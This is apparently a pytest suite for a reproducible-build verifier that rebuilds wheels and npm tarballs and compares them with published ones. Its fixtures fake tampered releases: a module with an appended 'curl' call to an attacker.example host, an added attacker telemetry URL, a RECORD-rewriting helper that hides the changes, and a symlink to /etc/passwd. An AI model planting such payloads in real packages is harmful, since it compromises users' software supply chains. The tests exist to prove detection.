"""``reprobuild verify`` end to end: releases built here, served by a loopback index, fetched
through the fetch phase, rebuilt in the sandbox and compared like a forensic tool."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import shutil
import tarfile
import zipfile
from base64 import urlsafe_b64encode
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .conftest import FIXTURES, REPO_ROOT, git, run_cli
from .registry import Index, serve

pytestmark = pytest.mark.usefixtures("toolchains", "no_leftovers")

EXAMPLE = REPO_ROOT / "examples" / "mcp-notes-server"
NAME, VERSION = "mcp-notes-server", "0.3.1"
WHEEL = "mcp_notes_server-0.3.1-py3-none-any.whl"
SDIST = "mcp_notes_server-0.3.1.tar.gz"
MODULE = "mcp_notes_server/server.py"


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The example server in a git repository, and its release as ``check`` builds it."""
    base = tmp_path_factory.mktemp("release")
    repo = base / "repo"
    shutil.copytree(EXAMPLE, repo)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "release 0.3.1")
    result = run_cli("check", str(repo), "--out", str(base / "built"), "--variations", "none",
                     "--no-diffoscope", "-q")
    assert result.code == 0, result.stderr
    artifacts = base / "built" / "a" / "artifacts"
    assert sorted(p.name for p in artifacts.iterdir()) == [WHEEL, SDIST]
    return repo, artifacts


@pytest.fixture
def index(monkeypatch: pytest.MonkeyPatch) -> Iterator[Index]:
    with serve(Index()) as served:
        monkeypatch.setenv("REPROBUILD_PYPI_URL", served.url)
        monkeypatch.setenv("REPROBUILD_NPM_REGISTRY", served.url)
        yield served


def rewrite_wheel(source: Path, target: Path, *, change: dict[str, bytes] | None = None,
                  add: dict[str, bytes] | None = None,
                  compression: int | None = None) -> Path:
    """The same wheel with members changed or added and RECORD rewritten to match, so it
    looks consistent to anyone who only checks RECORD."""
    change, add = change or {}, add or {}
    with zipfile.ZipFile(source) as old:
        infos = old.infolist()
        data = {i.filename: old.read(i) for i in infos}
    data.update(change)
    record_name = next(n for n in data if n.endswith(".dist-info/RECORD"))
    lines = [line for line in data[record_name].decode().splitlines() if line]
    new_names = [n for n in add if n not in data]
    data.update(add)

    def entry(name: str) -> str:
        digest = urlsafe_b64encode(hashlib.sha256(data[name]).digest()).rstrip(b"=").decode()
        return f"{name},sha256={digest},{len(data[name])}"

    rows = [entry(line.split(",", 1)[0]) if line.split(",", 1)[0] in data
            and not line.startswith(record_name) else line for line in lines]
    rows[-1:-1] = [entry(n) for n in new_names]
    data[record_name] = ("\n".join(rows) + "\n").encode()
    with zipfile.ZipFile(target, "w") as new:
        order = [i.filename for i in infos]
        order[-1:-1] = new_names  # before RECORD, as a backend writes it
        template = {i.filename: i for i in infos}
        for name in order:
            info = template.get(name) or zipfile.ZipInfo(name, infos[0].date_time)
            if name not in template:
                info.external_attr = infos[0].external_attr
                info.compress_type = infos[0].compress_type
            if compression is not None:
                info.compress_type = compression
            new.writestr(info, data[name])
    return target


def verify(*args: str, tmp: Path, name: str = "r.json") -> tuple[int, dict[str, Any], str]:
    result = run_cli("verify", *args, json_path=tmp / name)
    assert result.report is not None, result.stderr
    return result.code, result.report, result.stdout + result.stderr


def artifacts_of(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {a["name"]: a for a in report["verify"]["artifacts"]}


def test_a_matching_release_verifies_and_its_attestation_names_the_published_files(
        tmp_path: Path, released: tuple[Path, Path], index: Index,
        monkeypatch: pytest.MonkeyPatch) -> None:
    repo, artifacts = released
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))  # a first download
    index.add_pypi(NAME, VERSION, [artifacts / WHEEL, artifacts / SDIST])
    code, report, output = verify(str(repo), "--attest", str(tmp_path / "att.json"),
                                  tmp=tmp_path)
    assert code == 0, output
    assert report["verdict"] == "reproducible"
    assert {n: a["equivalence"] for n, a in artifacts_of(report).items()} == {
        WHEEL: "identical", SDIST: "identical"}
    info = report["verify"]
    assert isinstance(info, dict)
    assert info["found_from"] == f"the project's metadata (pypi:{NAME}=={VERSION})"
    assert any("WHEEL Generator hatchling" in fact for fact in info["conditions"]["facts"])
    # Downloaded through the fetch phase: the proxy logged it, the index saw it.
    hosts = {(r["host"], r["allowed"]) for r in report["fetch"]["requests"]} | {
        ("localhost", True)}
    assert ("localhost", True) in hosts
    assert f"/pypi/{NAME}/json" in index.requests
    assert f"/files/{WHEEL}" in index.requests
    statement = json.loads((tmp_path / "att.json").read_text())
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
    assert sorted((s["name"], s["digest"]["sha256"]) for s in statement["subject"]) == sorted(
        (p.name, hashlib.sha256(p.read_bytes()).hexdigest())
        for p in (artifacts / WHEEL, artifacts / SDIST))
    source = statement["predicate"]["buildDefinition"]["resolvedDependencies"][0]
    assert source["digest"]["gitCommit"] == git(repo, "rev-parse", "HEAD")
    # A second run finds the files in the cache: only the metadata is asked for again.
    before = list(index.requests)
    code, _, output = verify(str(repo), tmp=tmp_path, name="again.json")
    assert code == 0, output
    assert [r for r in index.requests[len(before):] if r.startswith("/files/")] == []


def test_a_release_built_with_another_backend_and_without_source_date_epoch_matches_once_inferred(
        tmp_path: Path, released: tuple[Path, Path], index: Index) -> None:
    repo, artifacts = released
    # "Published": built with hatchling 1.27.0 and SOURCE_DATE_EPOCH unset (by hand here).
    code, _, output = verify(str(repo), "--against", str(artifacts / WHEEL), "--pin",
                             "hatchling==1.27.0", "--env", "SOURCE_DATE_EPOCH=", "--out",
                             str(tmp_path / "old"), "--no-diffoscope", tmp=tmp_path,
                             name="old.json")
    old = tmp_path / "old" / "a" / "artifacts"
    with zipfile.ZipFile(old / WHEEL) as wheel:
        assert "Generator: hatchling 1.27.0" in wheel.read(
            "mcp_notes_server-0.3.1.dist-info/WHEEL").decode()
        assert {i.date_time for i in wheel.infolist()} == {(2020, 2, 2, 0, 0, 0)}
    assert code in (1, 6), output  # not the wheel check built
    index.add_pypi(NAME, VERSION, [old / WHEEL, old / SDIST])
    # No options: the backend and the missing SOURCE_DATE_EPOCH are read off the release.
    code, report, output = verify(str(repo), tmp=tmp_path)
    assert code == 0, output
    conditions = report["verify"]["conditions"]
    assert "hatchling==1.27.0" in conditions["pins"]
    assert conditions["env"] == {"SOURCE_DATE_EPOCH": None}
    assert report["fetch"]["pins"]["hatchling"] == "1.27.0"


def test_a_tampered_module_with_a_consistent_record_is_named(
        tmp_path: Path, released: tuple[Path, Path], index: Index) -> None:
    repo, artifacts = released
    with zipfile.ZipFile(artifacts / WHEEL) as wheel:
        module = wheel.read(MODULE)
    tampered = rewrite_wheel(artifacts / WHEEL, tmp_path / WHEEL, change={
        MODULE: module + b"\nimport os; os.system('curl http://payload.attacker.example')\n"})
    index.add_pypi(NAME, VERSION, [tampered, artifacts / SDIST])
    code, report, output = verify(str(repo), tmp=tmp_path)
    assert code == 1, output
    assert report["verdict"] == "unreproducible"
    wheel_info = artifacts_of(report)[WHEEL]
    assert wheel_info["equivalence"] == "content-differs"
    assert MODULE in wheel_info["changed"]
    assert wheel_info["only_published"] == []
    assert artifacts_of(report)[SDIST]["equivalence"] == "identical"
    assert wheel_info["diffoscope"] is not None
    assert MODULE in str(report["message"])


def test_a_file_only_in_the_published_wheel_is_the_loudest_finding(
        tmp_path: Path, released: tuple[Path, Path], index: Index) -> None:
    repo, artifacts = released
    extra = "mcp_notes_server/config.py"
    published = rewrite_wheel(artifacts / WHEEL, tmp_path / WHEEL, add={
        extra: b"TELEMETRY = 'https://telemetry.attacker.example/collect'\n"})
    index.add_pypi(NAME, VERSION, [published, artifacts / SDIST])
    code, report, output = verify(str(repo), tmp=tmp_path)
    assert code == 1, output
    assert artifacts_of(report)[WHEEL]["only_published"] == [extra]
    assert report["message"] == (f"published {WHEEL} contains {extra}, which the source "
                                 "does not")
    assert f"only in the published file: {extra}" in output


def test_the_same_content_repacked_is_its_own_outcome(
        tmp_path: Path, released: tuple[Path, Path], index: Index) -> None:
    repo, artifacts = released
    repacked = rewrite_wheel(artifacts / WHEEL, tmp_path / WHEEL, compression=zipfile.ZIP_STORED)
    index.add_pypi(NAME, VERSION, [repacked, artifacts / SDIST])
    code, report, output = verify(str(repo), tmp=tmp_path)
    assert code == 6, output
    assert report["verdict"] == "repacked"
    wheel_info = artifacts_of(report)[WHEEL]
    assert wheel_info["equivalence"] == "content-equal"
    assert any("compression" in line for line in wheel_info["packaging"])


def test_a_file_that_does_not_match_its_registry_digest_stops_the_run(
        tmp_path: Path, released: tuple[Path, Path], index: Index) -> None:
    repo, artifacts = released
    index.add_pypi(NAME, VERSION, [artifacts / WHEEL, artifacts / SDIST])
    index.lie_about.add(WHEEL)
    result = run_cli("verify", str(repo), json_path=tmp_path / "r.json")
    assert result.code == 2, result.stderr
    assert f"dependency {WHEEL} does not match the digest its registry publishes" \
        in result.stderr


def test_a_release_is_its_own_source(tmp_path: Path, released: tuple[Path, Path],
                                     index: Index) -> None:
    _, artifacts = released
    index.add_pypi(NAME, VERSION, [artifacts / WHEEL, artifacts / SDIST])
    code, report, output = verify(f"pypi:{NAME}=={VERSION}", tmp=tmp_path)
    assert code == 0, output
    assert report["source"]["kind"] == "archive"
    assert report["verify"]["source_sha256"] == hashlib.sha256(
        (artifacts / SDIST).read_bytes()).hexdigest()
    assert any("built with SOURCE_DATE_EPOCH=" in f
               for f in report["verify"]["conditions"]["facts"])
    # The sdist is the source; the wheel built from it is what was proven.
    assert {n: a["equivalence"] for n, a in artifacts_of(report).items()} == {
        WHEEL: "identical"}


def test_an_npm_tarball_verifies_and_a_repacked_one_is_described(
        tmp_path: Path, index: Index) -> None:
    repo = tmp_path / "mono"
    shutil.copytree(FIXTURES / "monorepo", repo)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "fixture")
    built = run_cli("check", str(repo), "--subdir", "src/notes-ts", "--variations", "none",
                    "--no-diffoscope", "--out", str(tmp_path / "built"), "-q")
    assert built.code == 0, built.stderr
    tgz = next((tmp_path / "built" / "a" / "artifacts").glob("*.tgz"))
    index.add_npm("@reprobuild-fixture/server-notes", "0.3.1", tgz)
    code, report, output = verify(str(repo), "--subdir", "src/notes-ts", tmp=tmp_path)
    assert code == 0, output
    assert any("packed by npm pack" in f
               for f in report["verify"]["conditions"]["facts"])
    # The same tar, gzipped by another tool (another header): content-equal, described.
    with gzip.open(tgz) as handle:
        tar_bytes = handle.read()
    repacked = tmp_path / "repacked" / tgz.name
    repacked.parent.mkdir()
    with repacked.open("wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=1767323045,
                                                   compresslevel=1) as out:
        out.write(tar_bytes)
    with tarfile.open(fileobj=io.BytesIO(tar_bytes)) as tar:
        assert tar.getnames()
    index.add_npm("@reprobuild-fixture/server-notes", "0.3.1", repacked)
    code, report, output = verify(str(repo), "--subdir", "src/notes-ts", tmp=tmp_path,
                                  name="repacked.json")
    assert code == 6, output
    lines = artifacts_of(report)[tgz.name]["packaging"]
    assert any("gzip" in line for line in lines), lines


def test_twice_also_builds_in_a_varied_environment(tmp_path: Path, released: tuple[Path, Path],
                                                    index: Index) -> None:
    repo, artifacts = released
    index.add_pypi(NAME, VERSION, [artifacts / WHEEL, artifacts / SDIST])
    code, report, output = verify(str(repo), "--twice", "--variations", "hostname,umask",
                                  tmp=tmp_path)
    assert code == 0, output
    assert [b["name"] for b in report["builds"]] == ["a", "b"]
    assert report["variations"] == ["hostname", "umask"]
    assert report["builds"][1]["variations"]["umask"] == "0002"
    assert report["differences"] == []


def test_a_published_wheel_that_cannot_be_read_safely_is_a_finding(
        tmp_path: Path, released: tuple[Path, Path], index: Index) -> None:
    repo, artifacts = released
    published = tmp_path / WHEEL
    shutil.copyfile(artifacts / WHEEL, published)
    with zipfile.ZipFile(published, "a") as wheel:
        link = zipfile.ZipInfo("mcp_notes_server/passwd")
        link.create_system = 3
        link.external_attr = (0o120777 << 16)  # a symlink
        wheel.writestr(link, "/etc/passwd")
    index.add_pypi(NAME, VERSION, [published, artifacts / SDIST])
    code, report, output = verify(str(repo), tmp=tmp_path)
    assert code == 1, output
    wheel_info = artifacts_of(report)[WHEEL]
    assert wheel_info["equivalence"] == "content-differs"
    assert "not compared" in wheel_info["packaging"][0]
    assert "symlink" in wheel_info["packaging"][0] or "link" in wheel_info["packaging"][0]
    assert str(report["message"]).startswith(f"published {WHEEL} differs from the rebuild")
